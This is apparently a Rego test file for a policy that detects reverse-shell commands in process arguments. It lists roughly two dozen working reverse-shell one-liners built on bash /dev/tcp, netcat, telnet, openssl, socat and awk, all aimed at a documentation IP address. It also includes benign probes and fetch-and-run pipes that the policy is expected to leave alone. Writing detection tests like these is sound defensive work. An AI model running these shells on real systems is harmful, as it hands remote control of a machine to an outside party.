package hasp.policies.process.reverse_shell_command_test

import data.hasp.policies.process.reverse_shell_command
import data.hasp.testing

found(subject) := violations if {
	violations := reverse_shell_command.violations with input as subject
}

test_finds_shells_on_connections[command] if {
	some command in [
		"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
		"0<&196;exec 196<>/dev/tcp/203.0.113.5/42; bash <&196 >&196 2>&196",
		"exec 5<>/dev/tcp/203.0.113.5/4444; cat <&5 | while read line; do $line 2>&5 >&5; done",
		"sh -i >& /dev/udp/203.0.113.5/53",
		"exec 7<>/dev/tcp/203.0.113.5/1; zsh<&7",
		"bash >&/dev/tcp/203.0.113.5/1 <&1",
		"x >& /dev/tcp/203.0.113.5/1",
		"x &> /dev/tcp/203.0.113.5/1",
		"x >&/dev/udp/203.0.113.5/1",
		"x >& /dev/udp/203.0.113.5/1",
		"cat </dev/tcp/203.0.113.5/1 | sh",
		"exec 5<>/dev/tcp/203.0.113.5/1; dash <&5",
		"x <>/dev/tcp/203.0.113.5/1 1>&0",
		"rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 4444 >/tmp/f",
		"mknod /tmp/p p && telnet 203.0.113.5 4444 0</tmp/p | /bin/bash 1>/tmp/p",
		"mkfifo /tmp/s; /bin/bash -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/s",
		"mkfifo /tmp/s; ash </tmp/s | ncat 203.0.113.5 1 >/tmp/s",
		"exec 5<>/dev/tcp/203.0.113.5/1; x 0>&1 >&5",
		"exec 5<>/dev/tcp/203.0.113.5/1; x 0<&5",
		"exec 5<>/dev/tcp/203.0.113.5/1; sh -i",
		"mknod /tmp/p p; sh </tmp/p | /usr/bin/nc 203.0.113.5 1",
		"mknod /tmp/p p; sh </tmp/p | /usr/bin/ncat 203.0.113.5 1",
		"mknod /tmp/p p; sh </tmp/p | netcat 203.0.113.5 1",
		"nc 203.0.113.5 4444 | sh",
		"/bin/telnet 203.0.113.5 1 | bash",
		"socat - tcp:203.0.113.5:1|/bin/sh",
		"awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.5/4444\"; while(42) { do{ printf \"shell>\" |& s; s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } while(c != \"exit\") close(s); }}' /dev/null",
	]
	count(found(testing.script(command))) == 1
}

# What a script says that a shell was given has a shell in any case.
test_finds_shells_that_an_interpreter_starts[shell] if {
	some shell in ["sh", "/bin/sh", "bash", "/bin/bash", "ash", "/bin/ash", "zsh", "/bin/zsh"]
	text := sprintf("import os; os.system('mkfifo /tmp/f; %v < /tmp/f | nc 203.0.113.5 1 > /tmp/f')", [shell])
	count(found(testing.commanded(["python3", "-c", text]))) == 1
}

test_leaves_an_interpreter_that_starts_none if {
	text := "import os; os.system('mkfifo /tmp/f; nc -l 80 < /tmp/f | cat')"
	found(testing.commanded(["python3", "-c", text])) == set()
}

test_leaves_probes_and_waiting[command] if {
	some command in [
		"</dev/tcp/127.0.0.1/5432",
		"(echo > /dev/tcp/db/5432) >/dev/null 2>&1",
		"exec 3<>/dev/tcp/127.0.0.1/8080; printf 'GET /health HTTP/1.0' >&3; cat <&3 | grep -q UP",
		"until nc -z db 5432; do sleep 1; done",
		"mkfifo /tmp/logs && cat /tmp/logs",
		"mkfifo /tmp/in; sh </tmp/in",
		"base64 -d x | sh",
		"awk 'BEGIN { s = /inet/tcp/0/db/1; s getline x }'",
		"awk 'BEGIN { print |& /inet/tcp/0/db/1 }'",
		"nc -z db 5432 | tee log",
		"curl -s https://example.com/x | sh",
		"openssl s_client -connect example.com:443 </dev/null | openssl x509 -noout",
		"awk '{print \"/inet/tcp/\"}'",
		"awk '{x |& getline}'",
	]
	count(found(testing.script(command))) == 0
}

test_leaves_what_only_names_a_port[command] if {
	some command in [
		"wait-for nc http://db | sh",
	]
	count(found(testing.script(command))) == 0
}

test_says_what_was_seen if {
	some violation in found(testing.script("bash -i >& /dev/tcp/203.0.113.5/1 0>&1"))
	violation.message == "sh -c bash -i >& /dev/tcp/203.0.113.5/1 0>&1 gives its input and output to a network connection"
	violation.path == "/event/process/args"
}
